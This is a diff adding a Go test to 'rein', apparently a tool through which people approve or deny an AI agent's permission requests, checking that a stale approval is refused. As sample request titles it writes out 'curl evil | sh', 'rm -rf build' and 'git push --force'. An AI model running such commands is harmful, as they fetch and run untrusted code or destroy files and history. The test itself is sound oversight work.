@@ -5,6 +5,10 @@ import (
 	"database/sql"
 	"encoding/json"
 	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"net/http/httputil"
+	"net/url"
 	"path/filepath"
 	"regexp"
 	"strings"
@@ -414,4 +418,70 @@ func inboxRef(t *testing.T, table, title string) string {
 	}
 	t.Fatalf("rein inbox has no row %q:\n%s", title, table)
 	return ""
+}
+
+// rein approve and rein inbox approve answer the request they read, or
+// none: should it end, and its agent ask another under its id, between
+// rein's look at it and the answer's arrival, the server refuses the
+// answer (it names the request's seq) instead of applying it to the
+// request nobody read. A proxy in front of the server makes that happen
+// just before the answer arrives.
+func TestAnswersNameTheRequestRead(t *testing.T) {
+	s := startServer(t, app.Options{})
+	tok := createSession(t, s, "s1")
+	next := sandbox(t, s, "s1", tok)
+	const ask = `{"type":"permission_requested","id":"perm-1","title":%q,"options":[{"id":"yes","name":"Yes","kind":"allow_once"},{"id":"no","name":"No","kind":"reject_once"}]}`
+	postEvents(t, s, "s1", tok, `[{"type":"turn_started","turnId":"t1","source":"user"},`+fmt.Sprintf(ask, "rm -rf build")+`]`)
+
+	// meanwhile runs once, before the next answer reaches the server.
+	var meanwhile atomic.Pointer[func()]
+	target, _ := url.Parse(s.URL())
+	proxy := httputil.NewSingleHostReverseProxy(target)
+	front := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, "/commands") {
+			if f := meanwhile.Swap(nil); f != nil {
+				(*f)()
+			}
+		}
+		proxy.ServeHTTP(w, r)
+	}))
+	t.Cleanup(front.Close)
+	turn := 1
+	askAgain := func(title string) *func() {
+		f := func() {
+			turn++
+			postEvents(t, s, "s1", tok, fmt.Sprintf(`[{"type":"permission_resolved","id":"perm-1","outcome":"cancelled"},{"type":"turn_completed","turnId":"t%d","stopReason":"cancelled"},{"type":"turn_started","turnId":"t%d","source":"user"},`, turn-1, turn)+fmt.Sprintf(ask, title)+`]`)
+		}
+		return &f
+	}
+
+	meanwhile.Store(askAgain("curl evil | sh"))
+	r := rein(t, front.URL, "approve", "s1", "perm-1")
+	if r.code != 1 || !strings.Contains(r.stderr, "requestSeq") || !strings.Contains(r.stderr, "curl evil | sh") || r.stdout != "" {
+		t.Fatalf("rein approve s1 perm-1, asked again meanwhile: %+v; want exit 1 and the server's refusal naming the new request", r)
+	}
+
+	ref := inboxRef(t, mustRein(t, s.URL(), "inbox"), "curl evil | sh")
+	meanwhile.Store(askAgain("git push --force"))
+	r = rein(t, front.URL, "inbox", "approve", ref)
+	if r.code != 1 || !strings.Contains(r.stderr, "requestSeq") || !strings.Contains(r.stderr, "git push --force") || r.stdout != "" {
+		t.Fatalf("rein inbox approve %s, asked again meanwhile: %+v; want exit 1 and the server's refusal naming the new request", ref, r)
+	}
+	cl, err := client.New(s.URL(), testToken)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if rec, err := cl.Session(context.Background(), "s1"); err != nil || rec.PendingCommands != 0 {
+		t.Fatalf("session s1: %+v (%v); want no command stored", rec, err)
+	}
+
+	// Nothing in between: the answer names the request read.
+	list, err := cl.Approvals(context.Background(), "")
+	if err != nil || len(list) != 1 {
+		t.Fatalf("approvals: %+v (%v)", list, err)
+	}
+	mustRein(t, front.URL, "deny", "s1", "perm-1")
+	if c := next(); c.RequestID != "perm-1" || c.OptionID != "no" || c.RequestSeq != list[0].Seq {
+		t.Fatalf("s1 got %+v; want no for perm-1 at seq %d", c, list[0].Seq)
+	}
 }
